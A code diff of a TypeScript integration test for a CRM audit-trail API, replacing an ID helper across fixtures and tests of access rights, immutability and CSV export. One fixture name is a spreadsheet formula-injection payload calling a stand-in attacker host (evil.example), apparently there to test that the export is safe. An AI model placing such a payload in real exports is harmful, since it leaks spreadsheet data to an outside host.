@@ -1,7 +1,7 @@
 import type { AuditEntryView, AuditPage, MyAuditPage, Role } from '@crm/contracts';
-import { eventually, mintToken } from '@crm/testing';
+import { eventually, mintToken, uniqueId } from '@crm/testing';
 import { BOOTSTRAP, startStack, type Stack } from '../../../test-support/stack';
-import { newId, startProducer, type Producer } from './support/producer';
+import { startProducer, type Producer } from '../../../test-support/audit-producer';
 
 /**
  * The trail's three calls through the gateway, on entries recorded the way every service records
@@ -12,16 +12,16 @@ let stack: Stack;
 let producer: Producer;
 let admin: string;
 let adminId: string;
-const token = (rol: Role, id = newId()) => mintToken({ id, rol });
+const token = (rol: Role, id = uniqueId()) => mintToken({ id, rol });
 
 // Staff, two patients (and a third one); entries spread over two summer days of 2024, when the
 // Canaries are at UTC+1.
-const doctor = { id: newId(), name: 'Dra. Lucía Núñez' };
-const nurse = { id: newId(), name: 'Álvaro Peña' };
-const kiosk = { id: newId(), name: 'Kiosko de entrada' };
-const ana = newId();
-const ben = newId();
-const other = newId();
+const doctor = { id: uniqueId(), name: 'Dra. Lucía Núñez' };
+const nurse = { id: uniqueId(), name: 'Álvaro Peña' };
+const kiosk = { id: uniqueId(), name: 'Kiosko de entrada' };
+const ana = uniqueId();
+const ben = uniqueId();
+const other = uniqueId();
 
 beforeAll(async () => {
   stack = await startStack({ components: ['auth', 'audit'] });
@@ -41,7 +41,7 @@ beforeAll(async () => {
       actorRol: 'DOCTOR',
       action: 'record.read',
       resource: 'record',
-      resourceId: newId(),
+      resourceId: uniqueId(),
       patientIds: [ana],
       at: at('2024-06-01T08:30:00Z'),
     },
@@ -60,7 +60,7 @@ beforeAll(async () => {
       actorRol: 'ADMIN',
       action: 'record.update',
       resource: 'record',
-      resourceId: newId(),
+      resourceId: uniqueId(),
       patientIds: [ben],
       at: at('2024-06-02T10:00:00Z'),
       outcome: 'success',
@@ -93,7 +93,7 @@ beforeAll(async () => {
       at: at('2024-06-02T13:00:00Z'),
     },
     {
-      actorId: newId(),
+      actorId: uniqueId(),
       actorRol: 'DOCTOR',
       actorName: 'Otro',
       action: 'record.read',
@@ -130,7 +130,7 @@ describe('who may read the trail', () => {
     const answers: Record<string, number> = {};
     for (const caller of Object.keys(expected) as Array<keyof typeof expected>) {
       const auth = caller === 'anonymous' ? undefined : caller === 'ADMIN' ? admin : token(caller);
-      const query = path === '/audit/mine' ? '' : `?actorId=${newId()}`;
+      const query = path === '/audit/mine' ? '' : `?actorId=${uniqueId()}`;
       answers[caller] = (await stack.api.get(`${path}${query}`, auth)).status;
     }
     expect(answers).toEqual(expected);
@@ -139,7 +139,7 @@ describe('who may read the trail', () => {
   it.each(['PUT', 'PATCH', 'DELETE', 'POST'])(
     'has no %s on any trail path: the trail cannot be changed',
     async (method) => {
-      for (const path of ['/audit', '/audit/mine', '/audit/export.csv', `/audit/${newId()}`]) {
+      for (const path of ['/audit', '/audit/mine', '/audit/export.csv', `/audit/${uniqueId()}`]) {
         const response = await fetch(`${stack.gatewayUrl}/api/v1${path}`, {
           method,
           headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
@@ -291,8 +291,8 @@ describe('GET /audit/mine (PACIENT)', () => {
 });
 
 describe('GET /audit/export.csv (ADMIN)', () => {
-  const evil = { id: newId(), name: '=HYPERLINK("http://evil.example/?x="&A1,"Ver")' };
-  const evilPatient = newId();
+  const evil = { id: uniqueId(), name: '=HYPERLINK("http://evil.example/?x="&A1,"Ver")' };
+  const evilPatient = uniqueId();
 
   beforeAll(async () => {
     await producer.trail.record(
